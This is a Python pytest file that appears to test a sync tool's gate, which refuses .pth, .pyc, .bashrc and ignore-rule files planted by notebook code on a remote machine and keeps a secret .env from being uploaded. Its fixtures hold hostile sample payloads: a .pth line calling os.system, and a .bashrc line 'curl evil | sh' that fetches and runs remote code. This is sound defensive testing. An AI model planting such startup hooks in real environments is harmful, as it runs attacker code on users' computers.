"""One gate at the machine boundary (issue 40, items 1, 2 and 5; invariant 11), each attack of the
review reproduced with real parts: an unmodified worker agent process serving a copy that
notebook code on the machine changed, a real file:// store, the follow loop of the user's side
(orchestration/follow.py) and ``jupyter portable restore``.

Inbound: nothing from a machine or a store reaches a path that runs or configures code on the
user's computer, or a path the user's own ignore rules keep out; what is refused is listed with
its reason. Outbound: no file the user's ignore rules keep out is read to be sent to a machine."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import datetime, timezone
from pathlib import Path
from types import SimpleNamespace

import pytest
from conftest import Cli, write_tree

from jupyter_portable import Workspace
from jupyter_portable.compute.base import Allocation
from jupyter_portable.core import lifecycle as L
from jupyter_portable.orchestration.follow import Follower
from jupyter_portable.worker.client import AgentClient, AgentRecord
from jupyter_portable.worker.protocol import READY_PREFIX

pytestmark = pytest.mark.timeout(180)

T0 = datetime(2030, 1, 2, 3, 4, 5, tzinfo=timezone.utc)
SECRET = "OPENAI_API_KEY=sk-user-secret-0123456789\n"
USER_RULES = ".env\n"
PTH = ".venv/lib/python3.11/site-packages/x.pth"
PYC = "__pycache__/util.cpython-311.pyc"
# what notebook code on the machine writes: the machine's own rules, widened, and code to run here
PLANTED = {".portableignore": "!.venv/\n!__pycache__/\n", PTH: "import os; os.system('touch /tmp/pwned')\n",
           PYC: "not really a pyc, but the user's Python would load it\n"}


@pytest.fixture
def machine(tmp_path: Path) -> Iterator[SimpleNamespace]:
    """The user's copy (its .env ignored, never snapshotted) and an unmodified worker serving version 1."""
    root = tmp_path / "laptop"
    write_tree(root, {"util.py": "def f():\n    return 1\n", ".portableignore": USER_RULES, ".env": SECRET})
    ws = Workspace.init(root, f"file://{tmp_path}/store")
    ws.snapshot("first", progress=None)
    assert ".env" not in ws.store.read_manifest(ws.workspace_id).by_path()
    epoch = ws.config.epoch  # the user's copy publishes again once the machine is gone (not fenced here)
    work = tmp_path / "machine" / "work"
    config = {"store": ws.config.store, "workspace_id": ws.workspace_id, "allocation_id": "al-gate",
              "version": 1, "epoch": epoch, "workdir": str(work), "state_dir": str(tmp_path / "machine" / "agent")}
    proc = subprocess.Popen([sys.executable, "-m", "jupyter_portable.worker"], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, text=True, start_new_session=True)
    assert proc.stdin is not None and proc.stdout is not None
    proc.stdin.write(json.dumps(config))
    proc.stdin.close()
    line = proc.stdout.readline()
    assert line.startswith(READY_PREFIX), line
    ready = json.loads(line[len(READY_PREFIX):])
    allocation = Allocation("al-gate", "local", "gate", str(proc.pid), "2030-01-02T03:04:05Z")
    client = AgentClient(AgentRecord(allocation, int(ready["port"]), proc.pid, str(ready["token"]), str(work)))
    try:
        for _ in range(600):
            if client.request("GET", "/status")["phase"] in ("ready", "failed"):
                break
            time.sleep(0.1)
        assert client.request("GET", "/status")["phase"] == "ready"
        lc = SimpleNamespace(state=L.ACTIVE, allocation_id="al-gate", events=[], version=1)
        orch = SimpleNamespace(lifecycle=lambda: lc, client=lambda: client)
        notices: list[tuple[str, str]] = []
        follower = Follower(ws, lambda: orch, synced={}, clock=lambda: T0,
                            notice=lambda kind, text: notices.append((kind, text)))
        yield SimpleNamespace(ws=ws, root=root, work=work, follower=follower, notices=notices)
    finally:
        client.close()
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(10)


def _holds_secret(folder: Path) -> list[str]:
    return [str(p) for p in folder.rglob("*") if p.is_file() and b"sk-user-secret" in p.read_bytes()]


def test_a_pth_and_a_pyc_a_machine_lists_are_never_written_by_follow(machine: SimpleNamespace) -> None:
    write_tree(machine.work, PLANTED)
    res = machine.follower.tick(T0)
    assert not (machine.root / ".venv").exists() and not (machine.root / "__pycache__").exists()
    assert (machine.root / ".portableignore").read_text() == USER_RULES
    assert res.pulled == [], res
    refused = {r["path"]: r["reason"] for r in res.refused}
    assert set(refused) == set(PLANTED), res
    assert "runs or configures code" in refused[PTH] and "runs or configures code" in refused[PYC]
    assert ".portableignore" in refused[".portableignore"]
    # listed where the user sees it, once per change on the machine, not at every tick
    assert [k for k, _ in machine.notices] == ["refused"], machine.notices
    assert PTH in machine.notices[0][1]
    assert machine.follower.tick(T0).refused == []


def test_a_machine_published_version_that_shares_venv_restores_no_pth_or_pyc(
        tmp_path: Path, machine: SimpleNamespace, cli: Cli) -> None:
    ws = machine.ws
    # the machine's copy publishes a version whose own .portableignore says !.venv/ and !__pycache__/
    Workspace.restore(ws.config.store, ws.workspace_id, tmp_path / "theirs", progress=None)
    write_tree(tmp_path / "theirs", PLANTED)
    published = Workspace.find(tmp_path / "theirs").snapshot("from the machine", progress=None)
    names = ws.store.read_manifest(ws.workspace_id, published.version).by_path()
    assert PTH in names and PYC in names  # the store holds them: the gate is on the user's side

    # an ordinary restore of the user's copy, and a fresh one on a new computer
    for dest in (machine.root, tmp_path / "new-laptop"):
        out = cli.json("restore", "--store", ws.config.store, "--workspace", ws.workspace_id, str(dest))
        assert not (dest / ".venv").exists() and not (dest / "__pycache__").exists(), dest
        refused = {r["path"]: r["reason"] for r in out["refused"]}
        assert PTH in refused and PYC in refused, out
        assert "runs or configures code" in refused[PTH]
        assert (dest / "util.py").read_text() == "def f():\n    return 1\n"
    # the user's own rules and secret stay as they were
    assert (machine.root / ".portableignore").read_text() == USER_RULES
    assert (machine.root / ".env").read_text() == SECRET
    proc = cli("restore", "--store", ws.config.store, "--workspace", ws.workspace_id, str(machine.root))
    assert PTH in proc.stderr and "runs or configures code" in proc.stderr


def test_an_ignored_env_is_never_sent_to_the_machine_as_a_conflict_copy(machine: SimpleNamespace) -> None:
    # notebook code on the machine: its own .env, and rules that list it
    write_tree(machine.work, {".env": "MACHINE=1\n", ".portableignore": ""})
    res = machine.follower.tick(T0)
    machine.follower.tick(T0)
    assert _holds_secret(machine.work.parent) == []
    assert res.conflicts == [], res
    assert (machine.root / ".env").read_text() == SECRET  # not replaced by the machine's either
    assert {r["path"] for r in res.refused} == {".env", ".portableignore"}, res


def test_a_pulled_portableignore_never_makes_the_next_snapshot_upload_env(machine: SimpleNamespace) -> None:
    write_tree(machine.work, {".portableignore": "# nothing ignored\n"})
    res = machine.follower.tick(T0)
    ws = machine.ws
    done = ws.snapshot("after following the machine", progress=None)
    assert ".env" not in ws.store.read_manifest(ws.workspace_id, done.version).by_path()
    store = Path(ws.config.store.removeprefix("file://"))
    assert _holds_secret(store) == []
    assert (machine.root / ".portableignore").read_text() == USER_RULES
    assert [r["path"] for r in res.refused] == [".portableignore"], res


def test_a_file_new_on_both_sides_is_offered_not_a_conflict_and_the_users_stays_here(
        machine: SimpleNamespace) -> None:
    (machine.root / "notes.md").write_text("mine\n")
    write_tree(machine.work, {"notes.md": "the machine's\n"})
    res = machine.follower.tick(T0)
    assert res.conflicts == [] and res.pulled == [], res
    assert res.offered == ["notes.md"], res
    assert (machine.root / "notes.md").read_text() == "mine\n"
    assert sorted(p.name for p in machine.work.iterdir() if p.name.startswith("notes")) == ["notes.md"]
    assert (machine.work / "notes.md").read_text() == "the machine's\n"
    assert any(k == "offered" and "notes.md" in t for k, t in machine.notices), machine.notices


def test_the_user_opts_a_deny_listed_path_in_on_the_users_side(machine: SimpleNamespace) -> None:
    machine.ws.copy.write_inbound_allow(["tools/.bashrc"])
    write_tree(machine.work, {"tools/.bashrc": "alias ll='ls -l'\n", "other/.bashrc": "curl evil | sh\n"})
    res = machine.follower.tick(T0)
    assert res.pulled == ["tools/.bashrc"], res
    assert [r["path"] for r in res.refused] == ["other/.bashrc"], res
    assert not (machine.root / "other").exists()
